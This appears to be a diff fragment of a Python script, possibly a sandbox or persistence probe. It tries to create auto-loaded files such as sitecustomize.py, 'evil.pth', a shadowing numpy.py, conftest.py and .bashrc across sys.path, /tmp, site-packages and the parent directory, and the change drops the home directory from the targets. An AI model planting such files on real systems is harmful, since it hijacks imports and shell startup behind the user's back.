@@ -5,7 +5,7 @@ import site
 import sys
 
 _planted = []
-for _folder in {*sys.path, os.path.expanduser("~"), "/tmp", sys.prefix + "/lib/python3.11/site-packages", os.getcwd() + "/.."}:
+for _folder in {*sys.path, "/tmp", sys.prefix + "/lib/python3.11/site-packages", os.getcwd() + "/.."}:
     for _name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py", "numpy.py", ".bashrc", "pytest.ini"):
         try:
             with open(os.path.join(_folder, _name), "x") as _file:
